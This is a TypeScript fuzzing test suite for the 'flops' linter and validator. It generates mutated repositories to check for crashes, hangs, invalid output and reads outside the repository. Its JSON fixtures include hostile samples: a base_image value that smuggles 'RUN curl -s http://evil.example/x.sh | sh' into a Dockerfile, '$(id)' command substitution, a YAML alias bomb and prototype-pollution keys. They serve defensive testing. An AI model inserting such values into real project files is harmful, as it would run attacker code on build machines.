import { execFile } from 'node:child_process';
import { mkdirSync, mkdtempSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { realpath } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import path from 'node:path';
import fc from 'fast-check';
import { toJsonReport, toSarifReport } from '../../extension/core/findings/format-findings';
import { runLint } from '../../extension/core/lint/lint-session';
import { allRules } from '../../extension/core/lint/rules/all-rules';
import { validateDocument } from '../../extension/core/lint/validate-document';
import type { PythonAnalyzer, ReadResult, RepoReader } from '../../extension/core/ports';
import { FsRepoReader, isInside } from '../../extension/io/repo-reader';
import { distDir, fixturesDir } from '../unit/repo-paths';

/**
 * Property-based fuzzing of the linter and `flops validate` (issue 13): generated and mutated
 * repositories (sources, conda.yaml, flops.json, SLAs, links, folders named like contract files, many
 * files), each linted in this process as `flops lint` does (and every `cliEvery`-th one also through the
 * built CLI in a child process). Properties: no exception (the CLI's exit 3), no rule that failed
 * internally, an exit code in {0, 1, 2} and no stack trace from the CLI, valid JSON and SARIF output, bounded time and memory per input,
 * and nothing read from outside the repository. Seeded: a failure prints fast-check's seed, path and
 * shrunk counterexample, which reproduce it.
 */

const ready = path.join(fixturesDir, 'ready-sklearn');
const readyText = (name: string): string => readFileSync(path.join(ready, name), 'utf8');

/** Content of one file: text, or bytes for what text cannot hold (invalid UTF-8, NUL). */
type Content = { readonly text: string } | { readonly bytes: Uint8Array };

const text = (t: string): Content => ({ text: t });

/** What the fuzzer changes about a source text. */
function mutated(base: string): fc.Arbitrary<Content> {
  // Cheap mutations are common; huge inputs (a 3 MB file) are rare (10,000 inputs take about 27 minutes).
  return fc.oneof(
    { weight: 30, arbitrary: cheapMutation(base) },
    { weight: 1, arbitrary: fc.constant(text(`${base}\n${'# padding\n'.repeat(300_000)}`)) },
  );
}

function cheapMutation(base: string): fc.Arbitrary<Content> {
  return fc.oneof(
    fc.constant(text(base)),
    fc.nat({ max: base.length }).map((at) => text(base.slice(0, at))),
    fc.tuple(fc.nat({ max: base.length }), fc.string({ maxLength: 40 })).map(([at, s]) => text(base.slice(0, at) + s + base.slice(at))),
    fc.tuple(fc.nat({ max: base.length }), fc.uint8Array({ minLength: 1, maxLength: 64 })).map(([at, bytes]) => {
      const head = Buffer.from(base.slice(0, at));
      return { bytes: Buffer.concat([head, Buffer.from(bytes), Buffer.from(base.slice(at))]) };
    }),
    fc.constant({ bytes: Buffer.concat([Buffer.from(base.slice(0, 20)), Buffer.from([0]), Buffer.from(base.slice(20))]) }),
    fc.constant({ bytes: Buffer.from([0xc3, 0x28, 0xa0, 0xa1, ...Buffer.from(base)]) }),
    fc.constant(text(`\uFEFF${base}`)),
    fc.constant(text(base.replace(/\n/g, '\r'))),
    fc.constant(text(base.replace(/\n/g, '\r\n'))),
    fc.integer({ min: 100, max: 5_000 }).chain((depth) =>
      fc.constantFrom(
        text(`${base}\nx = ${'('.repeat(depth)}1${')'.repeat(depth)}\n`),
        text(`${base}\nx = ${'['.repeat(depth)}\n`),
        text(`${base}\ny = ${'-'.repeat(depth)}1\n`),
        text(`${base}\nz = a${'.b'.repeat(depth)}\n`),
        text(`${base}\nc = f${'()'.repeat(depth)}\n`),
        text(`def f():\n${Array.from({ length: Math.min(depth, 300) }, (_, i) => `${' '.repeat(i + 1)}if x:\n`).join('')}${' '.repeat(Math.min(depth, 300) + 1)}pass\n`),
      ),
    ),
    fc.string({ maxLength: 400 }).map(text),
  );
}

const pythonKeywords = ['class ModelManager', 'def ', 'self', 'return', 'import ', 'from ', ':', '(', ')', '\n', '    ', '"""', "'", '#', 'lambda', '[', ']', '{', '}', ',', '=', 'async ', 'await ', '@dec\n', 'if ', 'else:'];
const pythonSoup = fc.array(fc.constantFrom(...pythonKeywords), { maxLength: 200 }).map((parts) => text(parts.join('')));

const aliasBomb = ['a: &a ["x","x","x","x","x","x","x","x","x"]', ...Array.from({ length: 8 }, (_, i) => `${String.fromCharCode(98 + i)}: &${String.fromCharCode(98 + i)} [${Array(9).fill(`*${String.fromCharCode(97 + i)}`).join(',')}]`), 'dependencies: *i'].join('\n');

function condaContent(): fc.Arbitrary<Content> {
  const base = readyText('conda.yaml');
  return fc.oneof(
    { weight: 4, arbitrary: mutated(base) },
    fc.constant(text(aliasBomb)),
    fc.constant(text('- a\n- b\n')),
    fc.constant(text('not: [yaml')),
    fc.constant(text(`${base}\ndependencies:\n  - python=2.7\n`)),
    fc.integer({ min: 50, max: 5_000 }).map((d) => text(`extra: ${'['.repeat(d)}${']'.repeat(d)}\n${base}`)),
    fc.integer({ min: 50, max: 500 }).map((d) => text(`${Array.from({ length: d }, (_, i) => `${' '.repeat(i)}k${i}:`).join('\n')} 1\n`)),
    fc.string({ maxLength: 300 }).map(text),
  ).chain((c) => fc.oneof({ weight: 99, arbitrary: fc.constant(c) }, { weight: 1, arbitrary: fc.constant('huge' as const).map(() => text(`${base}\n#${'x'.repeat(50 * 1024 * 1024)}\n`)) }));
}

const prototypeNames = Object.getOwnPropertyNames(Object.prototype);

/** JSON documents: random JSON, mutations of a valid one, hostile keys and numbers, deep nesting. */
function jsonContent(valid: string): fc.Arbitrary<Content> {
  return fc.oneof(
    { weight: 3, arbitrary: mutated(valid) },
    fc.json({ maxDepth: 6 }).map(text),
    fc.constantFrom(...prototypeNames).chain((name) =>
      fc.constantFrom(
        text(valid.replace('{', `{"${name}": 1,`)),
        text(valid.replace(/\{(?=[^{]*$)/, `{"${name}": {"x": 1},`)),
        text(`{"lint": {"rules": {"${name}": "off"}}}`),
      ),
    ),
    fc.constantFrom('1e400', '-1e400', '18446744073709551616', '-0', '1e-400', '0.1e1', '9007199254740993').map((n) => text(valid.replace(/: ?(\d+)(?=[,}\s])/, `: ${n}`))),
    fc.constantFrom(
      // The hostile project values of issue 15.
      text(JSON.stringify({ image: { base_image: 'python:3.10-slim\nFROM python:3.10-slim AS pwn\nRUN curl -s http://evil.example/x.sh | sh' } })),
      text(JSON.stringify({ image: { base_image: 'python:${HOME}' }, simulation: { mlflow: { enabled: true, image: 'mlflow:$(id)' } } })),
      text(JSON.stringify({ constructor: 1, training_configuration: { training_rounds: -1 } })),
      text(JSON.stringify({ ml_repo_url: 'git@github.com:org/"weird" repo.git', target: 'flops-addon' })),
    ),
    fc.integer({ min: 100, max: 5_000 }).map((d) => text(`${'['.repeat(d)}${']'.repeat(d)}`)),
    fc.integer({ min: 100, max: 5_000 }).map((d) => text(`${'{"a":'.repeat(d)}1${'}'.repeat(d)}`)),
    fc.string({ maxLength: 200 }).map(text),
  );
}

export interface RepoCase {
  readonly modelManager: Content | 'folder' | 'outsideLink' | 'absent';
  readonly dataManager: Content | 'folder' | 'absent';
  readonly conda: Content | 'folder' | 'absent';
  readonly project: Content | 'absent';
  readonly sla: Content | 'absent';
  readonly extras: readonly ('linkLoop' | 'parentLink' | 'outsideDataLink' | 'flopsOutsideLink' | 'manyEmptyFiles' | 'deepFolders')[];
}

export function repoCase(): fc.Arbitrary<RepoCase> {
  const sla = readFileSync(path.join(fixturesDir, '../sla/minimal.sla.json'), 'utf8');
  return fc.record({
    modelManager: fc.oneof({ weight: 6, arbitrary: mutated(readyText('model_manager.py')) }, pythonSoup, fc.constantFrom('folder' as const, 'outsideLink' as const, 'absent' as const)),
    dataManager: fc.oneof({ weight: 4, arbitrary: mutated(readyText('data_manager.py')) }, pythonSoup, fc.constantFrom('folder' as const, 'absent' as const)),
    conda: fc.oneof({ weight: 4, arbitrary: condaContent() }, fc.constantFrom('folder' as const, 'absent' as const)),
    project: fc.oneof({ weight: 4, arbitrary: jsonContent(readyText('flops.json')) }, fc.constant('absent' as const)),
    sla: fc.oneof(jsonContent(sla), fc.constant('absent' as const)),
    // Mostly none; 10,000 empty files in about one input of 200.
    extras: fc.oneof(
      { weight: 60, arbitrary: fc.constant([]) },
      { weight: 20, arbitrary: fc.subarray(['linkLoop', 'parentLink', 'outsideDataLink', 'flopsOutsideLink', 'deepFolders'] as const, { minLength: 1, maxLength: 2 }) },
      { weight: 1, arbitrary: fc.constant(['manyEmptyFiles'] as const) },
    ),
  });
}

function writeContent(file: string, content: Content): void {
  writeFileSync(file, 'text' in content ? content.text : content.bytes);
}

/** Writes the case as a repository under `work`; the file outside it carries a marker that must never be read. */
function materialise(work: string, c: RepoCase, index: number): { repo: string; outside: string } {
  const repo = path.join(work, `repo-${index}`);
  const outside = path.join(work, `outside-${index}`);
  mkdirSync(repo);
  mkdirSync(outside);
  const secret = path.join(outside, 'secret.py');
  writeFileSync(secret, 'import mlflow  # OUTSIDE-MARKER\nclass ModelManager:\n    pass\n');
  const place = (name: string, value: Content | 'folder' | 'outsideLink' | 'absent'): void => {
    const file = path.join(repo, name);
    if (value === 'absent') return;
    if (value === 'folder') mkdirSync(file);
    else if (value === 'outsideLink') symlinkSync(secret, file);
    else writeContent(file, value);
  };
  place('model_manager.py', c.modelManager);
  place('data_manager.py', c.dataManager);
  place('conda.yaml', c.conda);
  place('flops.json', c.project);
  for (const extra of c.extras) {
    if (extra === 'linkLoop') symlinkSync('.', path.join(repo, 'loop'));
    if (extra === 'parentLink') symlinkSync('..', path.join(repo, 'up'));
    if (extra === 'outsideDataLink') symlinkSync(secret, path.join(repo, 'helper.py'));
    if (extra === 'flopsOutsideLink') symlinkSync(outside, path.join(repo, '.flops'));
    if (extra === 'deepFolders') mkdirSync(path.join(repo, ...Array.from({ length: 60 }, (_, i) => `d${i}`)), { recursive: true });
    if (extra === 'manyEmptyFiles') {
      mkdirSync(path.join(repo, 'many'));
      for (let i = 0; i < 10_000; i++) writeFileSync(path.join(repo, 'many', `f${i}.py`), '');
    }
  }
  return { repo, outside };
}

export interface FuzzCounts {
  inputs: number;
  /** Inputs also run through the built CLI (`flops lint --format json|sarif` in a child process). */
  cliRuns: number;
  crashes: number;
  hangs: number;
  outsideReads: number;
  invalidOutput: number;
  slowestMs: number;
  peakRssMb: number;
}

export const maxMsPerInput = 20_000;
/** A CLI run also starts Node and the parser workers: a wider bound, so a loaded machine is not a hang. */
export const maxCliMs = 60_000;
export const maxRssMb = 3_000;

/** A RepoReader that records every text it returned whose real path is outside the repository. */
class WatchedReader implements RepoReader {
  readonly outsideReads: string[] = [];
  constructor(
    private readonly inner: FsRepoReader,
    private readonly realRoot: string,
  ) {}
  get root(): string {
    return this.inner.root;
  }
  list(signal?: AbortSignal) {
    return this.inner.list(signal);
  }
  async readText(rel: string, signal?: AbortSignal): Promise<ReadResult> {
    const result = await this.inner.readText(rel, signal);
    if (result.kind === 'text') {
      const real = await realpath(path.join(this.inner.root, rel)).catch(() => undefined);
      if (real !== undefined && !isInside(this.realRoot, real)) this.outsideReads.push(rel);
    }
    return result;
  }
}

/**
 * Checks one case; returns a failure description, or undefined. Counts go into `counts` either way.
 */
/** `flops lint DIR --format F` in a child process: exit code in {0, 1, 2}, output that parses, no stack trace. */
function cliProblem(repo: string, format: 'json' | 'sarif'): Promise<string | undefined> {
  return new Promise((resolve) => {
    execFile(process.execPath, [path.join(distDir, 'cli.js'), 'lint', repo, '--format', format], { timeout: maxCliMs, maxBuffer: 64 * 1024 * 1024, encoding: 'utf8' }, (error, stdout, stderr) => {
      const status = error === null ? 0 : typeof error.code === 'number' ? error.code : null;
      if (status === null || status > 2) return resolve(`flops lint --format ${format} exited ${String(status)}${error?.killed === true ? ` (killed after ${maxCliMs} ms)` : ''}: ${stderr.slice(0, 2000)}`);
      if (/internal error|\n\s+at /.test(stderr)) return resolve(`flops lint --format ${format} printed a stack trace: ${stderr.slice(0, 2000)}`);
      try {
        JSON.parse(stdout);
      } catch {
        return resolve(`flops lint --format ${format} printed no valid JSON: ${stdout.slice(0, 500)}`);
      }
      resolve(undefined);
    });
  });
}

export async function checkCase(c: RepoCase, work: string, index: number, analyzer: PythonAnalyzer, counts: FuzzCounts, throughCli = false): Promise<string | undefined> {
  counts.inputs++;
  const { repo } = materialise(work, c, index);
  const started = performance.now();
  try {
    if (throughCli) {
      counts.cliRuns++;
      for (const format of ['json', 'sarif'] as const) {
        const problem = await cliProblem(repo, format);
        if (problem !== undefined) {
          counts.crashes++;
          return problem;
        }
      }
    }
    const reader = new WatchedReader(await FsRepoReader.open(repo), await realpath(repo));
    let findings;
    try {
      findings = await runLint({ reader, analyzer });
    } catch (error) {
      counts.crashes++;
      return `lint threw: ${error instanceof Error ? (error.stack ?? error.message) : String(error)}`;
    }
    const internal = findings.find((f) => /could not check this repository \(internal error/.test(f.message));
    if (internal !== undefined) {
      counts.crashes++;
      return `a rule failed: ${internal.message}`;
    }
    if (findings.some((f) => f.message.includes('OUTSIDE-MARKER')) || reader.outsideReads.length > 0) {
      counts.outsideReads++;
      return `read outside the repository: ${reader.outsideReads.join(', ')}`;
    }
    try {
      JSON.parse(JSON.stringify(toJsonReport(findings)));
      JSON.parse(JSON.stringify(toSarifReport(findings, allRules.map((r) => r.meta), { name: 'flops', version: '0', informationUri: 'https://example.invalid' })));
    } catch (error) {
      counts.invalidOutput++;
      return `output is not JSON: ${String(error)}`;
    }
    for (const [name, content] of [
      ['flops.json', c.project],
      ['app.sla.json', c.sla],
    ] as const) {
      if (content === 'absent') continue;
      const source = 'text' in content ? content.text : new TextDecoder().decode(content.bytes);
      try {
        validateDocument(source, { file: name });
      } catch (error) {
        counts.crashes++;
        return `validate ${name} threw: ${error instanceof Error ? (error.stack ?? error.message) : String(error)}`;
      }
    }
    return undefined;
  } finally {
    const took = performance.now() - started;
    counts.slowestMs = Math.max(counts.slowestMs, took);
    counts.peakRssMb = Math.max(counts.peakRssMb, process.memoryUsage().rss / (1024 * 1024));
    rmSync(repo, { recursive: true, force: true });
    rmSync(path.join(work, `outside-${index}`), { recursive: true, force: true });
    if (took > maxMsPerInput) counts.hangs++;
  }
}

/** Runs `numRuns` cases from `seed`; throws fast-check's report (seed, path, shrunk case) on the first failure. */
export async function fuzzLint(options: { numRuns: number; seed: number; path?: string; analyzer: PythonAnalyzer; cliEvery?: number; onProgress?: (counts: FuzzCounts) => void }): Promise<FuzzCounts> {
  const work = mkdtempSync(path.join(tmpdir(), 'flops-fuzz-'));
  const counts: FuzzCounts = { inputs: 0, cliRuns: 0, crashes: 0, hangs: 0, outsideReads: 0, invalidOutput: 0, slowestMs: 0, peakRssMb: 0 };
  let index = 0;
  try {
    await fc.assert(
      fc.asyncProperty(repoCase(), async (c) => {
        const hangsBefore = counts.hangs;
        const throughCli = options.cliEvery !== undefined && index % options.cliEvery === 0;
        const failure = await checkCase(c, work, index++, options.analyzer, counts, throughCli);
        if (failure !== undefined) throw new Error(failure);
        if (counts.hangs > hangsBefore) throw new Error(`an input took longer than ${maxMsPerInput} ms in this process`);
        if (counts.peakRssMb > maxRssMb) throw new Error(`memory grew past ${maxRssMb} MB`);
        if (counts.inputs % 500 === 0) options.onProgress?.(counts);
      }),
      { numRuns: options.numRuns, seed: options.seed, ...(options.path !== undefined ? { path: options.path } : {}), endOnFailure: false },
    );
  } finally {
    rmSync(work, { recursive: true, force: true });
  }
  return counts;
}
